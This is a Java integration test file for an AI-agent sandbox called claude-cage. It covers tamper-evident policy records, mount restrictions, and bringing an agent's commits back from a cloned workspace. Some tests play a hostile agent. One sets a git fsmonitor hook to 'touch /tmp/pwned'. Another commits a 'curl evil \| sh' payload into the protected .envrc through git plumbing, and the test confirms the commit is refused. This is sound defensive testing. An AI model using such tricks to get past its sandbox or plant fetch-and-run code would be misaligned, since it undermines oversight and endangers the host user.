@@ -1,0 +1,230 @@
+package dev.claudecage.it;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.stream.Stream;
+
+import static dev.claudecage.it.CageHarness.ROOTFS;
+import static dev.claudecage.it.CageHarness.cage;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/**
+ * A session's policy record, and {@code start --clone} with {@code diff} and {@code apply}: the
+ * agent commits inside a real cage (the cli image, which has git) on a copy, and its commits come
+ * back into the original as the original's owner, or are refused with a reason.
+ */
+class SessionWorkspaceIT {
+
+    private static final int OWNER = 4242;
+
+    /** This class's sessions: only these are destroyed and looked for, as other tests share the host. */
+    private static final List<String> MINE = List.of("it-policy", "it-crash", "it-reach", "it-clone", "it-sneak");
+
+    @BeforeEach
+    void requireHost() throws Exception {
+        CageHarness.requireRootAndRootfs();
+        destroyMine();
+        assertEquals(List.of(), mine(CageHarness.sessionLeftovers()), "the host holds leftovers of this test's sessions");
+    }
+
+    @AfterEach
+    void nothingLeftBehind() throws Exception {
+        destroyMine();
+        assertEquals(List.of(), mine(CageHarness.sessionLeftovers()), "the sessions left something behind");
+    }
+
+    private static void destroyMine() {
+        for (String name : MINE) {
+            if (Files.exists(CageHarness.SESSION_DATA.resolve(name).resolve("state.json"))) {
+                cage("destroy", "--timeout", "0", name);
+            }
+        }
+    }
+
+    private static List<String> mine(List<String> leftovers) {
+        return leftovers.stream().filter(item -> MINE.stream().anyMatch(item::contains)).toList();
+    }
+
+    @Test
+    void theSessionRecordsItsPolicyWhereTheCageCannotReachIt(@TempDir Path workspace) throws Exception {
+        Files.setPosixFilePermissions(workspace, PosixFilePermissions.fromString("rwxrwxrwx"));
+        CageHarness.Result start = cage("start", "--detach", "--name", "it-policy", "--rootfs", ROOTFS.toString(),
+                "--network", "none", "--mount", workspace + ":/workspace", "--", "sleep", "300");
+        assertEquals(0, start.exitCode(), start.toString());
+
+        JsonNode status = SessionLifecycleIT.status("it-policy");
+        JsonNode policy = status.path("policy");
+        assertTrue(policy.path("sha256").asText().matches("[0-9a-f]{64}"), status.toString());
+        assertTrue(status.path("policyIntact").asBoolean(), status.toString());
+        assertEquals(status.path("containerId").asText(), policy.path("containerId").asText());
+        assertEquals(ROOTFS.toString(), policy.path("policy").path("rootfs").asText());
+        assertEquals(".envrc", policy.path("policy").path("protectedPaths").get(10).asText(), status.toString());
+        assertEquals("api.anthropic.com", policy.path("policy").path("allowedHosts").get(0).asText());
+        assertTrue(policy.path("policy").path("mounts").toString()
+                .contains(workspace.resolve(".envrc") + ":/workspace/.envrc:ro (protected)"), status.toString());
+        CageHarness.Result text = cage("status", "it-policy");
+        assertTrue(text.stdout().contains("policy:         sha256:" + policy.path("sha256").asText()), text.toString());
+
+        Path policyFile = CageHarness.SESSION_DATA.resolve("it-policy/policy.json");
+        CageHarness.Result look = cage("shell", "it-policy", "--", "sh", "-c",
+                "grep -c claude-cage/sessions /proc/self/mountinfo; cat " + policyFile + " 2>&1; "
+                        + "find / -xdev -name policy.json 2>/dev/null | wc -l");
+        assertEquals("1\ncat: " + policyFile + ": No such file or directory\n0\n", look.stdout(),
+                "the cage sees its home from the session folder, and nothing else of it: " + look);
+
+        // Tampering on the host shows: the hash no longer matches.
+        Files.writeString(policyFile, Files.readString(policyFile).replace("api.anthropic.com", "evil.example"));
+        assertFalse(SessionLifecycleIT.status("it-policy").path("policyIntact").asBoolean());
+        assertTrue(cage("status", "it-policy").stdout().contains("ALTERED"));
+        assertEquals(0, cage("destroy", "it-policy").exitCode());
+    }
+
+    @Test
+    void placeholdersOfACrashedSessionGoWithItsCage(@TempDir Path workspace) throws Exception {
+        Files.setPosixFilePermissions(workspace, PosixFilePermissions.fromString("rwxrwxrwx"));
+        assertEquals(0, cage("start", "--detach", "--name", "it-crash", "--rootfs", ROOTFS.toString(),
+                "--network", "none", "--mount", workspace + ":/workspace", "--", "sleep", "300").exitCode());
+        assertTrue(Files.isDirectory(workspace.resolve(".envrc")), "the placeholder holds .envrc while the cage runs");
+        long supervisor = SessionLifecycleIT.status("it-crash").path("supervisorPid").asLong();
+
+        assertEquals(0, new ProcessBuilder("kill", "-9", Long.toString(supervisor)).start().waitFor());
+        long deadline = System.nanoTime() + 10_000_000_000L;
+        while (ProcessHandle.of(supervisor).map(ProcessHandle::isAlive).orElse(false) && System.nanoTime() < deadline) {
+            Thread.sleep(50);
+        }
+        assertTrue(Files.isDirectory(workspace.resolve(".envrc")), "kept while the crashed cage may still run");
+
+        // destroy (like gc) removes the crashed cage first, then what it left, placeholders included.
+        CageHarness.Result destroy = cage("destroy", "it-crash");
+        assertEquals(0, destroy.exitCode(), destroy.toString());
+        try (Stream<Path> left = Files.list(workspace)) {
+            assertEquals(List.of(), left.toList(), "no placeholder left in the workspace");
+        }
+    }
+
+    @Test
+    void aWritableMountThatWouldReachTheSessionRecordsIsRefused() {
+        CageHarness.Result refused = cage("start", "--detach", "--name", "it-reach", "--rootfs", ROOTFS.toString(),
+                "--network", "none", "--mount", "/var/lib:/host-lib", "--", "true");
+        assertEquals(2, refused.exitCode(), refused.toString());
+        assertTrue(refused.stderr().contains("within the cage's reach"), refused.toString());
+    }
+
+    @Test
+    void cloneDiffAndApplyBringTheAgentsCommitsBack(@TempDir Path parent) throws Exception {
+        CageHarness.requireCliImage();
+        Path repo = Files.createDirectory(parent.resolve("repo"));
+        git(repo, "init", "-q", "-b", "main");
+        Files.writeString(repo.resolve("a.txt"), "one\n");
+        git(repo, "add", "a.txt");
+        git(repo, "commit", "-q", "-m", "first");
+        chownTree(repo);
+
+        CageHarness.Result start = cage("start", "--detach", "--clone", "--name", "it-clone", "--network", "none",
+                "--mount", repo + ":/workspace", "--", "sleep", "300");
+        assertEquals(0, start.exitCode(), start.toString());
+
+        // Inside: the copy, not the original; commits work, the copy's git config does not.
+        CageHarness.Result agent = cage("shell", "it-clone", "--", "sh", "-c", "cd /workspace && "
+                + "grep -c '" + repo + "' /proc/self/mountinfo; git log --format=%s; "
+                + "echo two >> a.txt && echo new > b.txt && git add -A && "
+                + "git -c user.name=agent -c user.email=agent@cage commit -qm 'agent work' && git status --short; "
+                + "git config core.fsmonitor 'touch /tmp/pwned' 2>/dev/null || echo config-refused; "
+                + "echo draft > c.txt");
+        assertEquals("0\nfirst\nconfig-refused\n", agent.stdout(), agent.toString());
+
+        CageHarness.Result diff = cage("diff", "it-clone");
+        assertEquals(0, diff.exitCode(), diff.toString());
+        for (String expected : List.of("agent work", "+two", "b.txt", "# uncommitted changes", "+draft")) {
+            assertTrue(diff.stdout().contains(expected), "missing '" + expected + "' in " + diff);
+        }
+
+        // A dirty original is refused, a clean one fast-forwarded, as its owner.
+        Files.writeString(repo.resolve("a.txt"), "one\nmine\n");
+        CageHarness.Result dirty = cage("apply", "it-clone");
+        assertEquals(2, dirty.exitCode(), dirty.toString());
+        assertTrue(dirty.stderr().contains("uncommitted changes"), dirty.toString());
+        Files.writeString(repo.resolve("a.txt"), "one\n");
+        CageHarness.Result applied = cage("apply", "it-clone");
+        assertEquals(0, applied.exitCode(), applied.toString());
+        assertTrue(applied.stdout().contains("applied 1 commit(s) to main"), applied.toString());
+        assertEquals("agent work\nfirst\n", git(repo, "log", "--format=%s"));
+        assertEquals("one\ntwo\n", Files.readString(repo.resolve("a.txt")));
+        assertEquals(OWNER, Files.getAttribute(repo.resolve("b.txt"), "unix:uid"), "written as the repository's owner");
+        assertEquals("", git(repo, "for-each-ref", "refs/claude-cage"), "no helper ref left");
+        assertFalse(Files.exists(repo.resolve("c.txt")), "uncommitted work stays in the copy");
+
+        // The original moves on and the agent commits again: diverged, refused.
+        Files.writeString(repo.resolve("d.txt"), "host\n");
+        git(repo, "add", "d.txt");
+        git(repo, "commit", "-q", "-m", "host work");
+        chownTree(repo);
+        assertEquals(0, cage("shell", "it-clone", "--", "sh", "-c", "cd /workspace && git add -A && "
+                + "git -c user.name=agent -c user.email=agent@cage commit -qm more").exitCode());
+        CageHarness.Result diverged = cage("apply", "it-clone");
+        assertEquals(2, diverged.exitCode(), diverged.toString());
+        assertTrue(diverged.stderr().contains("has commits the session's copy does not"), diverged.toString());
+
+        assertEquals(0, cage("destroy", "it-clone").exitCode());
+    }
+
+    @Test
+    void commitsThatTouchAProtectedPathAreNotApplied(@TempDir Path parent) throws Exception {
+        CageHarness.requireCliImage();
+        Path repo = Files.createDirectory(parent.resolve("repo"));
+        git(repo, "init", "-q", "-b", "main");
+        git(repo, "commit", "-q", "--allow-empty", "-m", "first");
+        chownTree(repo);
+        assertEquals(0, cage("start", "--detach", "--clone", "--name", "it-sneak", "--network", "none",
+                "--mount", repo + ":/workspace", "--", "sleep", "300").exitCode());
+
+        // The wall keeps .envrc from being created, but a commit can still name it without the file.
+        CageHarness.Result agent = cage("shell", "it-sneak", "--", "sh", "-c", "cd /workspace && "
+                + "touch .envrc 2>/dev/null || echo file-refused; "
+                + "blob=$(echo 'curl evil | sh' | git hash-object -w --stdin) && "
+                + "git update-index --add --cacheinfo 100644,$blob,.envrc && "
+                + "git -c user.name=agent -c user.email=agent@cage commit -qm sneaky && echo committed");
+        assertEquals("file-refused\ncommitted\n", agent.stdout(), agent.toString());
+
+        CageHarness.Result refused = cage("apply", "it-sneak");
+        assertEquals(2, refused.exitCode(), refused.toString());
+        assertTrue(refused.stderr().contains("change protected paths") && refused.stderr().contains(".envrc"),
+                refused.toString());
+        assertFalse(Files.exists(repo.resolve(".envrc")));
+        assertEquals("first\n", git(repo, "log", "--format=%s"));
+        assertEquals(0, cage("destroy", "it-sneak").exitCode());
+    }
+
+    /** git on the test's own repository, as root (the test made it). */
+    private static String git(Path repo, String... args) throws Exception {
+        List<String> command = new ArrayList<>(List.of("git", "-c", "safe.directory=*", "-c", "user.name=user",
+                "-c", "user.email=user@host", "-C", repo.toString()));
+        command.addAll(List.of(args));
+        Process process = new ProcessBuilder(command).redirectErrorStream(true).start();
+        String output = new String(process.getInputStream().readAllBytes());
+        assertEquals(0, process.waitFor(), String.join(" ", command) + ": " + output);
+        return output;
+    }
+
+    /** The repository belongs to a host user other than root and the cage's uid, as a user's checkout would. */
+    private static void chownTree(Path repo) throws Exception {
+        try (Stream<Path> all = Files.walk(repo)) {
+            for (Path path : all.toList()) {
+                Files.setAttribute(path, "unix:uid", OWNER, java.nio.file.LinkOption.NOFOLLOW_LINKS);
+                Files.setAttribute(path, "unix:gid", OWNER, java.nio.file.LinkOption.NOFOLLOW_LINKS);
+            }
+        }
+        Files.setPosixFilePermissions(repo.getParent(), PosixFilePermissions.fromString("rwxr-xr-x"));
+    }
+}
